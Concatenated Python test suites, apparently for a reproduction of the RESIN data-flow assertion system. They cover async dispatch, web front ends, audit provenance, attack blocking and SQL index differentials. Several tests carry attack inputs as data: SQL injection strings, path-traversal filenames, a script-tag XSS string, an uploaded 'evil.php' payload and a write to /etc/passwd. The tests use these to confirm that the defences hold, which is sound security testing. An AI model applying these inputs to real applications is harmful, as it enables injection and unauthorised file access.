    def test_cancel_mid_request_unwinds_context_and_overlay(self):
        """Cancelling the task abandons the response; the handler thread
        still unwinds its RequestContext, so the request's database filter
        overlay pops and nothing leaks onto the shared base chain."""
        env = Environment()
        app = WebApplication(env, "async-cancel")
        base_filters = len(env.db.filter.filters)
        entered = threading.Event()
        release = threading.Event()
        observed = {}

        @app.route("/slow")
        def slow(request, response):
            env.db.add_filter(Filter())  # request-scoped overlay
            observed["overlay_during"] = len(
                env.db._effective_chain().filters) - base_filters
            entered.set()
            release.wait(5)
            observed["context_bound_after_cancel"] = \
                current_request() is not None
            response.write("never awaited")

        async def main():
            async with AsyncDispatcher(app, workers=2) as server:
                task = server.submit(Request("/slow", user="alice"))
                await _wait(entered)
                task.cancel()
                with pytest.raises(asyncio.CancelledError):
                    await task
                release.set()
            # __aexit__ drained the executor: the handler has finished.

        asyncio.run(main())
        assert observed["overlay_during"] == 1
        # The abandoned handler ran to completion on its thread, inside its
        # own (still bound there) context ...
        assert observed["context_bound_after_cancel"] is True
        # ... and its overlay died with the context: the shared chain is
        # untouched and no request is bound to the test thread.
        assert len(env.db.filter.filters) == base_filters
        assert len(env.db._effective_chain().filters) == base_filters
        assert current_request() is None

    def test_cancel_while_queued_never_starts_the_handler(self):
        env = Environment()
        app = WebApplication(env, "async-queued")
        started = []
        release = threading.Event()

        @app.route("/slow")
        def slow(request, response):
            started.append(request.user)
            release.wait(5)
            response.write("done")

        async def main():
            async with AsyncDispatcher(app, workers=1,
                                       max_in_flight=1) as server:
                first = server.submit(Request("/slow", user="running"))
                await asyncio.sleep(0.05)      # let it occupy the only slot
                queued = server.submit(Request("/slow", user="queued"))
                await asyncio.sleep(0.05)      # parked on the semaphore
                queued.cancel()
                with pytest.raises(asyncio.CancelledError):
                    await queued
                release.set()
                await first

        asyncio.run(main())
        assert started == ["running"]


class TestBackpressureAndShutdown:
    def test_max_in_flight_bounds_concurrency(self):
        env = Environment()
        app = WebApplication(env, "async-bounded")
        lock = threading.Lock()
        state = {"now": 0, "peak": 0}

        @app.route("/work")
        def work(request, response):
            with lock:
                state["now"] += 1
                state["peak"] = max(state["peak"], state["now"])
            time.sleep(0.02)
            with lock:
                state["now"] -= 1
            response.write("ok")

        async def main():
            async with AsyncDispatcher(app, workers=8,
                                       max_in_flight=2) as server:
                await server.dispatch_all(
                    [Request("/work", user=f"u{i}") for i in range(10)])

        asyncio.run(main())
        assert state["peak"] <= 2

    def test_rebind_refused_while_direct_dispatch_is_admitted(self):
        """A dispatch() awaiter on one loop holds an admission even though
        it never enters the task set; another loop must not steal the
        semaphore from under it."""
        env = Environment()
        app = WebApplication(env, "async-rebind")
        entered = threading.Event()
        release = threading.Event()

        @app.route("/slow")
        def slow(request, response):
            entered.set()
            release.wait(5)
            response.write("ok")

        server = AsyncDispatcher(app, workers=2)
        result = {}

        def loop_a():
            async def main():
                return await server.dispatch(Request("/slow", user="a"))
            result["response"] = asyncio.run(main())

        thread = threading.Thread(target=loop_a)
        thread.start()
        try:
            assert entered.wait(5)
            with pytest.raises(RuntimeError, match="another event loop"):
                server.run([Request("/slow", user="b")])
        finally:
            release.set()
            thread.join(timeout=5)
        assert "ok" in result["response"].body()
        server.shutdown()

    def test_graceful_shutdown_drains_in_flight_requests(self):
        env = Environment()
        app = WebApplication(env, "async-drain")

        @app.route("/slow")
        def slow(request, response):
            time.sleep(0.05)
            response.write(f"served {request.user}")

        async def main():
            server = AsyncDispatcher(app, workers=4)
            tasks = [server.submit(Request("/slow", user=f"u{i}"))
                     for i in range(4)]
            await server.aclose()              # waits for all four
            assert all(task.done() for task in tasks)
            responses = [task.result() for task in tasks]
            assert all(f"served u{i}" in r.body()
                       for i, r in enumerate(responses))
            with pytest.raises(RuntimeError):
                server.submit(Request("/slow", user="late"))
            with pytest.raises(RuntimeError):
                await server.dispatch(Request("/slow", user="late"))
            await server.aclose()              # idempotent

        asyncio.run(main())

    def test_disjoint_table_writes_overlap_across_tasks(self):
        """Two asyncio tasks writing different tables: the second completes
        while the first still holds its own table's lock mid-transaction."""
        env = Environment()
        env.db.execute_unchecked("CREATE TABLE ta (id INTEGER)")
        env.db.execute_unchecked("CREATE TABLE tb (id INTEGER)")
        app = WebApplication(env, "async-tables")
        a_entered = threading.Event()
        release_a = threading.Event()

        @app.route("/write-a")
        def write_a(request, response):
            with env.db.transaction("ta"):
                a_entered.set()
                release_a.wait(5)
                env.db.query("INSERT INTO ta (id) VALUES (1)")
            response.write("a done")

        @app.route("/write-b")
        def write_b(request, response):
            env.db.query("INSERT INTO tb (id) VALUES (2)")
            response.write("b done")

        async def main():
            async with AsyncDispatcher(app, workers=2) as server:
                task_a = server.submit(Request("/write-a", user="a"))
                await _wait(a_entered)
                response_b = await asyncio.wait_for(
                    server.dispatch(Request("/write-b", user="b")), timeout=2)
                assert "b done" in response_b.body()
                release_a.set()
                assert "a done" in (await task_a).body()

        asyncio.run(main())
        assert env.db.query("SELECT count(*) FROM ta").scalar() == 1
        assert env.db.query("SELECT count(*) FROM tb").scalar() == 1


class TestTable4AsyncFrontEnd:
    @pytest.mark.parametrize("use_resin", [False, True])
    def test_async_run_matches_serial_verdicts(self, use_resin):
        serial = table4.run_all(use_resin)
        concurrent = table4.run_all_concurrent(use_resin, workers=16,
                                               front_end="async")
        assert table4.verdicts(concurrent) == table4.verdicts(serial)
