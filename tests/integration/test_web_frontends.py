"""The five evaluation applications behind their routed web front ends.

Each application now publishes a method-aware, parameterized route table
(``app.web``); these tests drive the same attack and legitimate paths the
Table 4 scenarios use, but through HTTP requests — checking that the RESIN
assertions keep firing at the boundary no matter which surface reached it.
"""

import pytest

from repro.core.exceptions import AccessDenied, PolicyViolation
from repro.environment import Environment
from repro.web import Request


class TestPhpBBFrontend:
    @pytest.fixture
    def board(self):
        from repro.apps.phpbb import PhpBB
        board = PhpBB(Environment(), use_xss_assertion=False)
        board.create_forum(1, "public")
        board.create_forum(2, "staff", allowed_users=["admin"])
        board.post_message(10, 2, "admin", "salaries", "the secret salaries")
        board.post_message(11, 1, "admin", "welcome", "hello world")
        return board

    def test_topic_view_and_permissions(self, board):
        page = board.web.handle(Request("/topic/11", user="mallory"))
        assert "hello world" in page.body()
        admin_page = board.web.handle(Request("/topic/10", user="admin"))
        assert "secret salaries" in admin_page.body()

    def test_buggy_printable_route_blocked_by_policy(self, board):
        with pytest.raises(AccessDenied):
            board.web.handle(Request("/topic/10/printable", user="mallory"))

    def test_posting_is_method_aware(self, board):
        created = board.web.handle(Request(
            "/topic", method="POST", user="eve",
            params={"msg_id": "12", "forum_id": "1", "subject": "hi",
                    "body": "new post"}))
        assert created.status == 201
        assert board.web.handle(Request("/topic", method="GET")).status == 405
        page = board.web.handle(Request("/topic/12", user="mallory"))
        assert "new post" in page.body()

    def test_xss_assertion_rides_on_routed_responses(self):
        from repro.apps.phpbb import PhpBB
        from repro.core.exceptions import InjectionViolation
        board = PhpBB(Environment(), use_read_assertion=False)
        board.create_forum(1, "public")
        board.post_message(11, 1, "admin", "welcome", "hello world")
        payload = "<script>steal()</script>"
        with pytest.raises(InjectionViolation):
            board.web.handle(Request("/search", params={"q": payload},
                                     user="viewer"))


class TestMoinMoinFrontend:
    @pytest.fixture
    def wiki(self):
        from repro.apps.moinmoin import MoinMoin
        wiki = MoinMoin(Environment())
        wiki.update_body("SecretPlans",
                         "#acl alice:read,write\nthe secret plans", "alice")
        wiki.update_body("Public/Page",
                         "#acl All:read alice:read,write\nwelcome", "alice")
        return wiki

    def test_view_route_with_path_parameter(self, wiki):
        page = wiki.web.handle(Request("/wiki/Public/Page", user="bob"))
        assert "welcome" in page.body()

    def test_raw_route_blocked_by_page_policy(self, wiki):
        with pytest.raises(AccessDenied):
            wiki.web.handle(Request("/wiki/SecretPlans/raw", user="mallory"))

    def test_edit_is_method_aware(self, wiki):
        saved = wiki.web.handle(Request(
            "/wiki/Public/Page", method="POST", user="alice",
            params={"text": "#acl All:read alice:read,write\nv2"}))
        assert saved.status == 201
        assert "revision 2" in saved.body()
        with pytest.raises(AccessDenied):
            wiki.web.handle(Request(
                "/wiki/Public/Page", method="POST", user="mallory",
                params={"text": "defaced"}))


class TestHotCRPFrontend:
    @pytest.fixture
    def site(self):
        from repro.apps.hotcrp import HotCRP
        site = HotCRP(Environment())
        site.register_user("victim@example.org", "victim-password")
        site.register_user("pc@example.org", "pc-password", is_pc=True)
        site.submit_paper(1, "Data Flow Assertions", "We describe RESIN.",
                          ["alice@authors.org"], anonymous=True)
        return site

    def test_paper_route_resolves_pc_principal(self, site):
        page = site.web.handle(Request("/paper/1", user="pc@example.org"))
        assert "Data Flow Assertions" in page.body()
        assert "Anonymous" in page.body()
        assert "alice@authors.org" not in page.body()

    def test_paper_route_converter_failure_is_404(self, site):
        assert site.web.handle(
            Request("/paper/not-a-number", user="pc@example.org")).status == 404

    def test_outsider_cannot_read_paper(self, site):
        with pytest.raises(AccessDenied):
            site.web.handle(Request("/paper/1", user="outsider@example.org"))

    def test_password_reminder_route(self, site):
        response = site.web.handle(Request(
            "/password/reminder", method="POST",
            params={"email": "victim@example.org"},
            user="victim@example.org"))
        assert response.status == 202
        assert ("X-Reminder", "mailed") in response.headers
        assert any(m.to == "victim@example.org"
                   for m in site.env.mail.outbox)

    def test_preview_reminder_blocked_for_adversary(self, site):
        site.email_preview_mode = True
        with pytest.raises(PolicyViolation):
            site.web.handle(Request(
                "/password/reminder", method="POST",
                params={"email": "victim@example.org"},
                user="adversary@example.org"))


class TestFileManagerFrontend:
    @pytest.fixture
    def manager(self):
        from repro.apps.filemanager import FileThingie
        return FileThingie(Environment())

    def _login(self, manager, user):
        response = manager.web.handle(Request(
            "/login", method="POST", params={"user": user}))
        assert response.status == 201
        return {"sid": response.body()}

    def test_session_cookie_flow(self, manager):
        cookies = self._login(manager, "alice")
        saved = manager.web.handle(Request(
            "/files/notes.txt", method="POST",
            params={"content": "alice's notes"}, cookies=cookies))
        assert saved.status == 201
        listing = manager.web.handle(Request("/files", cookies=cookies))
        assert "notes.txt" in listing.body()
        read = manager.web.handle(Request("/files/notes.txt",
                                          cookies=cookies))
        assert "alice's notes" in read.body()

    def test_unauthenticated_requests_are_401(self, manager):
        assert manager.web.handle(Request("/files")).status == 401

    def test_traversal_through_the_web_surface_still_caught(self, manager):
        alice = self._login(manager, "alice")
        manager.web.handle(Request("/files/notes.txt", method="POST",
                                   params={"content": "private"},
                                   cookies=alice))
        mallory = self._login(manager, "mallory")
        with pytest.raises(PolicyViolation):
            manager.web.handle(Request(
                "/files/docs/../../alice/owned.txt", method="POST",
                params={"content": "owned"}, cookies=mallory))


class TestAdmissionsFrontend:
    @pytest.fixture
    def system(self):
        from repro.apps.admissions import AdmissionsSystem
        system = AdmissionsSystem(Environment())
        system.add_applicant(1, "Alice", "systems", 780, notes="strong")
        system.add_applicant(2, "Bob", "theory", 650,
                             notes="confidential: weak")
        return system

    def test_search_and_typed_lookup(self, system):
        search = system.web.handle(Request("/applicants",
                                           params={"name": "Alice"}))
        assert "name=Alice" in search.body()
        lookup = system.web.handle(Request("/applicants/1"))
        assert "applicant_id=1" in lookup.body()

    def test_injection_through_routed_screen_blocked(self, system):
        with pytest.raises(PolicyViolation):
            system.web.handle(Request("/applicants/by-area",
                                      params={"area": "x' OR '1'='1"}))

    def test_decision_update_is_post_only(self, system):
        updated = system.web.handle(Request(
            "/applicants/1/decision", method="POST",
            params={"decision": "admit"}))
        assert "updated 1 rows" in updated.body()
        assert system.web.handle(
            Request("/applicants/1/decision")).status == 405
