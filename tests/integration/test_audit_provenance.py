"""End-to-end provenance: which requests exported this password's data?

The acceptance scenario: a multi-request workload where some requests
export data carrying a ``PasswordPolicy`` and others don't;
``provenance_of(password_policy)`` must return exactly the exporting
requests — including after the ledger is closed and reopened, and through
``Resin.open``'s recovered recorder.
"""

import pytest

from repro.audit.ledger import AuditLedger
from repro.audit.query import events as query_events
from repro.audit.query import provenance_of
from repro.core.exceptions import DisclosureViolation
from repro.policies import PasswordPolicy, UntrustedData
from repro.runtime_api import Resin
from repro.server.dispatcher import Dispatcher
from repro.web import WebApplication
from repro.web.request import Request


def _build_app(resin):
    app = WebApplication(resin.env)
    site = {"password": resin.taint("hunter2", PasswordPolicy("a@b.c"))}

    @app.route("/profile")
    def profile(request, response):
        # Exports the password — allowed only for the program chair.
        response.write("password: " + site["password"])

    @app.route("/public")
    def public(request, response):
        response.write("nothing secret here")

    @app.route("/comment")
    def comment(request, response):
        # Exports *other* tainted data: must not pollute the password chain.
        response.write(resin.taint("<i>hi</i>", UntrustedData("form")))

    return app


class TestProvenanceChain:
    def test_dispatched_attempts_are_attributed_by_request_id(self, tmp_path):
        """Requests served through the thread-pool dispatcher: every
        /profile hit tries to export the password (denied — a bare web
        Request carries no priv_chair), /public and /comment never touch
        it.  The audit trail attributes each decision to its request id."""
        resin = Resin()
        recorder = resin.enable_audit(str(tmp_path / "audit"))
        app = _build_app(resin)
        plan = [
            ("/profile", "chair"),    # request 1: denied attempt
            ("/profile", "mallory"),  # request 2: denied attempt
            ("/public", "alice"),     # request 3: no policies
            ("/profile", "chair"),    # request 4: denied attempt
            ("/comment", "bob"),      # request 5: other taint, allowed
            ("/public", "carol"),     # request 6: no policies
        ]
        with Dispatcher(app, workers=1, resin=resin) as server:
            for path, user in plan:
                try:
                    server.dispatch(Request(path, user=user))
                except DisclosureViolation:
                    pass
        denied = list(recorder.events(policy=PasswordPolicy, verdict="deny"))
        assert {event["request"] for event in denied} == {1, 2, 4}
        # ``route`` is the matched route's *name* — stable across
        # parameterized paths, unlike the raw request path.
        assert all(event["route"] == "profile" for event in denied)
        # No successful password export → empty chain; the comment export
        # shows up only under its own policy.
        assert provenance_of(recorder.ledger, PasswordPolicy) == []
        chain = provenance_of(recorder.ledger, UntrustedData)
        assert [entry["request"] for entry in chain] == [5]
        recorder.close()

    def test_chain_includes_only_exporting_requests(self, tmp_path):
        resin = Resin()
        recorder = resin.enable_audit(str(tmp_path / "audit"))
        password = resin.taint("hunter2", PasswordPolicy("a@b.c"))
        untrusted = resin.taint("<i>hi</i>", UntrustedData("form"))

        expected_exporters = []
        for user, chair, payload in [
            ("chair", True, password),    # request 1: exports the password
            ("alice", False, "plain"),    # request 2: nothing tainted
            ("bob", False, untrusted),    # request 3: other policy
            ("chair", True, password),    # request 4: exports the password
            ("mallory", False, password),  # request 5: denied attempt
        ]:
            try:
                with resin.request(user=user, priv_chair=chair) as http:
                    http.write(payload)
                if payload is password:
                    expected_exporters.append(user)
            except DisclosureViolation:
                pass

        chain = recorder.provenance_of(PasswordPolicy("a@b.c"))
        assert [entry["request"] for entry in chain] == [1, 4]
        assert [entry["principal"] for entry in chain] == expected_exporters
        assert all(entry["events"] == 1 for entry in chain)

        # ... and the chain survives a close/reopen of the ledger.
        recorder.close()
        with AuditLedger(str(tmp_path / "audit")) as reopened:
            chain_after = provenance_of(reopened, PasswordPolicy("a@b.c"))
            assert [e["request"] for e in chain_after] == [1, 4]
            denies = list(query_events(reopened, policy=PasswordPolicy,
                                       verdict="deny"))
            assert [e["request"] for e in denies] == [5]


class TestResinOpenWiring:
    def test_open_recovers_recorder_and_chain(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store, sync="none", audit=True)
        assert resin.audit is not None
        password = resin.taint("hunter2", PasswordPolicy("a@b.c"))
        with resin.request(user="chair", priv_chair=True) as http:
            http.write(password)
        resin.audit.close()
        resin.durability.close()

        # Reopen: audit=None must auto-detect the existing ledger, resume
        # the sequence, and expose the recovered chain through resin.audit.
        reopened = Resin.open(store, sync="none")
        recorder = reopened.audit
        assert recorder is not None
        chain = recorder.provenance_of(PasswordPolicy("a@b.c"))
        assert [entry["request"] for entry in chain] == [1]
        first_seq = max(e["seq"] for e in recorder.events())

        # New decisions keep appending after the recovered prefix.
        password2 = reopened.taint("hunter2", PasswordPolicy("a@b.c"))
        with pytest.raises(DisclosureViolation):
            with reopened.request(user="eve") as http:
                http.write(password2)
        denied = list(recorder.events(verdict="deny"))
        assert denied and all(e["seq"] > first_seq for e in denied)
        recorder.close()
        reopened.durability.close()

    def test_open_without_audit_dir_stays_off(self, tmp_path):
        resin = Resin.open(str(tmp_path / "plain"), sync="none")
        assert resin.audit is None
        resin.durability.close()

    def test_open_audit_false_ignores_existing_ledger(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store, sync="none", audit=True)
        resin.audit.close()
        resin.durability.close()
        reopened = Resin.open(store, sync="none", audit=False)
        assert reopened.audit is None
        reopened.durability.close()
