"""Integration tests: file managers, admissions, login library, upload apps."""

import pytest

from repro.apps.admissions import AdmissionsSystem
from repro.apps.filemanager import FileThingie, PHPNavigator
from repro.apps.loginlib import LoginLibrary
from repro.apps.scriptapps import UploadApp
from repro.core.exceptions import (AccessDenied, DisclosureViolation,
                                   InjectionViolation,
                                   ScriptInjectionViolation)
from repro.environment import Environment


class TestFileManagers:
    @pytest.mark.parametrize("cls,payload", [
        (FileThingie, "docs/../../alice/owned.txt"),
        (PHPNavigator, "....//alice/owned.txt"),
    ])
    def test_traversal_blocked_with_assertion(self, cls, payload):
        fm = cls(Environment(), use_resin=True)
        fm.create_account("alice")
        fm.create_account("mallory")
        with pytest.raises(AccessDenied):
            fm.save_file("mallory", payload, "owned")
        assert not fm.env.fs.exists(fm.home_dir("alice") + "/owned.txt")

    @pytest.mark.parametrize("cls,payload", [
        (FileThingie, "docs/../../alice/owned.txt"),
        (PHPNavigator, "....//alice/owned.txt"),
    ])
    def test_traversal_succeeds_without_assertion(self, cls, payload):
        fm = cls(Environment(), use_resin=False)
        fm.create_account("alice")
        fm.create_account("mallory")
        fm.save_file("mallory", payload, "owned")
        assert fm.env.fs.exists(fm.home_dir("alice") + "/owned.txt")

    @pytest.mark.parametrize("cls", [FileThingie, PHPNavigator])
    def test_normal_usage_unaffected(self, cls):
        fm = cls(Environment(), use_resin=True)
        fm.create_account("alice")
        fm.save_file("alice", "docs/notes.txt", "my notes")
        assert str(fm.read_file("alice", "docs/notes.txt")) == "my notes"
        assert fm.list_files("alice") == ["docs"]

    def test_anonymous_writes_rejected(self):
        fm = FileThingie(Environment(), use_resin=True)
        with pytest.raises(AccessDenied):
            fm.save_file(None, "x.txt", "data")

    def test_absolute_path_rejected_by_app(self):
        from repro.core.exceptions import HTTPError
        fm = FileThingie(Environment(), use_resin=True)
        fm.create_account("alice")
        with pytest.raises(HTTPError):
            fm.save_file("alice", "/etc/passwd", "x")


class TestAdmissions:
    @pytest.fixture
    def protected(self):
        app = AdmissionsSystem(Environment(), use_resin=True)
        app.add_applicant(1, "Alice", "systems", 780, notes="strong")
        app.add_applicant(2, "Bob", "theory", 650, notes="confidential")
        return app

    def test_injections_blocked(self, protected):
        with pytest.raises(InjectionViolation):
            protected.filter_by_area("x' OR '1'='1")
        with pytest.raises(InjectionViolation):
            protected.lookup_applicant("0 OR 1=1")
        with pytest.raises(InjectionViolation):
            protected.update_decision(1, "x' WHERE applicant_id = 2 --")

    def test_legitimate_queries_work(self, protected):
        assert len(protected.search_by_name("Alice")) == 1
        assert len(protected.filter_by_area("systems")) == 1
        assert len(protected.lookup_applicant("2")) == 1
        assert protected.update_decision(1, "admit") == 1
        assert any(str(r["decision"]) == "admit"
                   for r in protected.decisions())

    def test_unprotected_app_is_injectable(self):
        app = AdmissionsSystem(Environment(), use_resin=False)
        app.add_applicant(1, "Alice", "systems", 780)
        app.add_applicant(2, "Bob", "theory", 650)
        assert len(app.filter_by_area("x' OR '1'='1")) == 2
        assert len(app.lookup_applicant("0 OR 1=1")) == 2


class TestLoginLibrary:
    def test_password_file_not_served(self):
        lib = LoginLibrary(Environment(), use_resin=True)
        lib.register("victim", "victim-secret")
        with pytest.raises(DisclosureViolation):
            lib.http_get("/site/loginlib/users.txt")

    def test_authentication_still_works(self):
        lib = LoginLibrary(Environment(), use_resin=True)
        lib.register("victim", "victim-secret")
        lib.register("other", "pw2")
        assert lib.authenticate("victim", "victim-secret")
        assert not lib.authenticate("victim", "wrong")
        assert not lib.authenticate("nobody", "x")

    def test_unprotected_library_leaks(self):
        lib = LoginLibrary(Environment(), use_resin=False)
        lib.register("victim", "victim-secret")
        assert "victim-secret" in lib.http_get(
            "/site/loginlib/users.txt").body()

    def test_other_static_files_still_served(self):
        lib = LoginLibrary(Environment(), use_resin=True)
        lib.env.fs.write_text("/www/site/index.html", "<h1>welcome</h1>")
        assert "welcome" in lib.http_get("/site/index.html").body()


class TestScriptInjection:
    def test_uploaded_code_not_executed(self):
        app = UploadApp("gallery", Environment(), use_resin=True)
        app.upload("mallory", "evil.php", "globals_dict['pwned'] = True")
        with pytest.raises(ScriptInjectionViolation):
            app.http_get("/gallery/uploads/evil.php")
        assert not app.env.interpreter.globals.get("pwned")

    def test_approved_code_still_runs(self):
        app = UploadApp("gallery", Environment(), use_resin=True)
        app.run_index()

    def test_eval_path_also_blocked(self):
        app = UploadApp("gallery", Environment(), use_resin=True)
        uploaded = app.upload("mallory", "evil.php",
                              "globals_dict['pwned'] = True")
        source = app.env.fs.read_text(uploaded)
        with pytest.raises(ScriptInjectionViolation):
            app.env.interpreter.execute_source(source, origin=uploaded)

    def test_unprotected_app_executes_upload(self):
        app = UploadApp("gallery", Environment(), use_resin=False)
        app.upload("mallory", "evil.php", "globals_dict['pwned'] = True")
        app.http_get("/gallery/uploads/evil.php")
        assert app.env.interpreter.globals.get("pwned") is True

    def test_non_script_uploads_served_as_static(self):
        app = UploadApp("gallery", Environment(), use_resin=True)
        app.upload("alice", "photo.txt", "just text")
        assert "just text" in app.http_get(
            "/gallery/uploads/photo.txt").body()
