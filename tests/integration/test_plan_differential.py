"""Integration tests for the query-plan pipeline.

* **Differential harness**: every SELECT / UPDATE / DELETE in the corpus
  runs through both the planned executor and the retained reference scan
  path (``_select_reference`` / ``_update_reference`` /
  ``_delete_reference``), on indexed and unindexed engines, asserting
  identical result rows and identical table state.
* **Concurrent index maintenance**: writer threads mutate an indexed table
  under ``db.transaction`` while the indexes must stay complete.
* **Policy-mode parity**: Table 4 attack verdicts are identical in observe
  and enforce modes, serially and through a concurrent front end.
* **Index durability**: index definitions survive a durable close/reopen,
  via WAL replay and via snapshot restore.
"""

import threading

import pytest

from repro.channels.sqlchan import Database
from repro.evaluation import table4
from repro.runtime_api import Resin
from repro.sql.engine import Engine

# One fixture table with mixed-type cells: the engine's comparison
# semantics (numeric/string coercion, NULLs, case-insensitive LIKE) are
# exactly what the index candidate generator must not break.
FIXTURE = [
    "CREATE TABLE items (id INTEGER, grp INTEGER, name TEXT, "
    "score REAL, note TEXT)",
    "INSERT INTO items (id, grp, name, score, note) VALUES "
    "(1, 10, 'alpha', 1.5, 'x'), "
    "(2, 10, 'Beta', 2.0, NULL), "
    "(3, 20, 'gamma', NULL, '50%+'), "
    "(4, 20, 'delta', -3.25, 'a.b_c'), "
    "(5, 30, '1', 100, 'one'), "
    "(6, 30, '1.0', 0.0, 'one'), "
    "(7, NULL, 'zeta', 7, 'Z'), "
    "(8, 40, NULL, 8.5, 'z')",
]

INDEXED_COLUMNS = [("items", "id"), ("items", "grp"), ("items", "name")]

SELECT_CORPUS = [
    "SELECT * FROM items",
    "SELECT id, name FROM items WHERE id = 3",
    "SELECT id FROM items WHERE id = '3'",
    "SELECT id FROM items WHERE name = '1'",
    "SELECT id FROM items WHERE name = 1",
    "SELECT id FROM items WHERE grp = 10 AND score > 1",
    "SELECT id FROM items WHERE grp >= 20 AND grp < 40",
    "SELECT id FROM items WHERE id IN (1, 3, 5, 99)",
    "SELECT id FROM items WHERE id IN ('2', 4)",
    "SELECT id FROM items WHERE name LIKE '%a%'",
    "SELECT id FROM items WHERE note LIKE '50%+'",
    "SELECT id FROM items WHERE note LIKE 'a.b_c'",
    "SELECT id FROM items WHERE grp IS NULL",
    "SELECT id FROM items WHERE score IS NOT NULL AND score < 5",
    "SELECT id FROM items WHERE NOT (grp = 10)",
    "SELECT id FROM items WHERE grp = 10 OR grp = 30",
    "SELECT DISTINCT note FROM items",
    "SELECT id, name FROM items ORDER BY name",
    "SELECT id FROM items ORDER BY score DESC, id",
    "SELECT id FROM items ORDER BY grp LIMIT 3 OFFSET 2",
    "SELECT count(*) FROM items WHERE grp = 20",
    "SELECT min(score), max(score), sum(score), avg(score) FROM items",
    "SELECT count(note) FROM items",
    "SELECT upper(name) AS u FROM items WHERE id <= 4 ORDER BY name",
    "SELECT id, grp FROM items WHERE grp <= 20 ORDER BY grp DESC, id DESC",
    "SELECT id FROM items WHERE name < 'gamma'",
    "SELECT id FROM items WHERE name >= '1' AND name <= 'delta'",
    "SELECT id FROM items WHERE id = 2 AND name = 'Beta' AND grp = 10",
    "SELECT id FROM items LIMIT 2",
]

MUTATION_CORPUS = [
    "UPDATE items SET score = 9.9 WHERE grp = 10",
    "UPDATE items SET name = 'renamed', grp = 77 WHERE id IN (3, 5)",
    "UPDATE items SET grp = 31 WHERE grp >= 30",
    "UPDATE items SET note = NULL WHERE note LIKE '%.%'",
    "DELETE FROM items WHERE id = 2",
    "DELETE FROM items WHERE grp IS NULL",
    "UPDATE items SET id = 106 WHERE name = '1.0'",
    "DELETE FROM items WHERE score > 50",
]


def build_engine(indexed: bool) -> Engine:
    engine = Engine()
    for sql in FIXTURE:
        engine.run(sql)
    if indexed:
        for table, column in INDEXED_COLUMNS:
            engine.create_index(table, column)
    return engine


def table_state(engine: Engine):
    table = engine.tables["items"]
    return [[row.get(c) for c in table.column_names] for row in table.rows]


def result_rows(result):
    return [[row[c] for c in result.columns] for row in result.rows]


class TestSelectDifferential:
    @pytest.mark.parametrize("indexed", [False, True])
    @pytest.mark.parametrize("sql", SELECT_CORPUS)
    def test_planned_matches_reference(self, sql, indexed):
        engine = build_engine(indexed)
        from repro.sql.parser import parse
        stmt = parse(sql)
        planned = engine.run(sql)
        reference = engine._select_reference(stmt)
        assert result_rows(planned) == result_rows(reference)
        assert planned.columns == reference.columns

    @pytest.mark.parametrize("sql", SELECT_CORPUS)
    def test_indexed_matches_unindexed(self, sql):
        assert (result_rows(build_engine(True).run(sql))
                == result_rows(build_engine(False).run(sql)))


class TestMutationDifferential:
    @pytest.mark.parametrize("indexed", [False, True])
    def test_mutation_corpus_matches_reference_engine(self, indexed):
        from repro.sql.parser import parse
        planned = build_engine(indexed)
        reference = build_engine(False)
        for sql in MUTATION_CORPUS:
            stmt = parse(sql)
            a = planned.run(sql)
            if stmt.__class__.__name__ == "Update":
                b = reference._update_reference(stmt)
            else:
                b = reference._delete_reference(stmt)
            assert a.rowcount == b.rowcount, sql
            assert table_state(planned) == table_state(reference), sql
        # After the whole corpus the indexes are still exact.
        for name, index in planned.tables["items"].indexes.items():
            rows = planned.tables["items"].rows
            for row in rows:
                value = row.get(index.column)
                if value is None:
                    continue
                positions = index.lookup_eq([value])
                assert any(rows[p].get(index.column) == value
                           for p in positions), (name, value)


class TestConcurrentIndexMaintenance:
    def test_transaction_writers_keep_index_complete(self):
        db = Database()
        db.execute_unchecked(
            "CREATE TABLE ledger (id INTEGER, owner TEXT, amount INTEGER)")
        db.create_index("ledger", "owner")
        errors = []

        def writer(worker: int):
            try:
                for n in range(25):
                    key = worker * 1000 + n
                    with db.transaction("ledger"):
                        db.query(f"INSERT INTO ledger (id, owner, amount) "
                                 f"VALUES ({key}, 'w{worker}', {n})")
                    if n % 5 == 4:
                        with db.transaction("ledger"):
                            db.query(f"UPDATE ledger SET amount = 999 "
                                     f"WHERE id = {key}")
                    if n % 7 == 6:
                        with db.transaction("ledger"):
                            db.query(f"DELETE FROM ledger WHERE id = {key}")
            except Exception as exc:  # pragma: no cover - failure path
                errors.append(exc)

        threads = [threading.Thread(target=writer, args=(w,))
                   for w in range(6)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert not errors

        table = db.engine.tables["ledger"]
        index = table.indexes["idx_ledger_owner"]
        for worker in range(6):
            expected = sorted(pos for pos, row in enumerate(table.rows)
                              if row["owner"] == f"w{worker}")
            candidates = index.lookup_eq([f"w{worker}"])
            matching = [pos for pos in candidates
                        if table.rows[pos]["owner"] == f"w{worker}"]
            assert matching == expected
            via_sql = db.query(
                f"SELECT count(*) FROM ledger WHERE owner = 'w{worker}'"
            ).scalar()
            assert via_sql == len(expected)


class TestPolicyModeParity:
    def test_serial_verdicts_identical_across_modes(self):
        observe = table4.verdicts(table4.run_all(True, policy_mode="observe"))
        enforce = table4.verdicts(table4.run_all(True, policy_mode="enforce"))
        assert observe == enforce

    def test_threaded_verdicts_identical_across_modes(self):
        observe = table4.verdicts(table4.run_all_concurrent(
            True, workers=8, front_end="threads", policy_mode="observe"))
        enforce = table4.verdicts(table4.run_all_concurrent(
            True, workers=8, front_end="threads", policy_mode="enforce"))
        assert observe == enforce

    def test_enforce_preserves_hotcrp_page(self):
        from repro.evaluation.hotcrp_perf import HotCRPPageWorkload
        observe = HotCRPPageWorkload(use_resin=True).generate_page()
        enforce = HotCRPPageWorkload(use_resin=True,
                                     policy_mode="enforce").generate_page()
        assert observe == enforce
        assert "Anonymous" in enforce


class TestIndexDurability:
    def test_indexes_survive_wal_replay(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE kv (k INTEGER, v TEXT)")
        resin.db.create_index("kv", "k")
        for n in range(10):
            resin.db.query(f"INSERT INTO kv (k, v) VALUES ({n}, 'v{n}')")
        resin.db.query("DELETE FROM kv WHERE k = 4")
        resin.durability.close()

        resin2 = Resin.open(store)
        table = resin2.db.engine.tables["kv"]
        assert set(table.indexes) == {"idx_kv_k"}
        lines = [r["plan"] for r in resin2.db.query(
            "EXPLAIN SELECT v FROM kv WHERE k = 7").rows]
        assert any("IndexLookup" in line for line in lines)
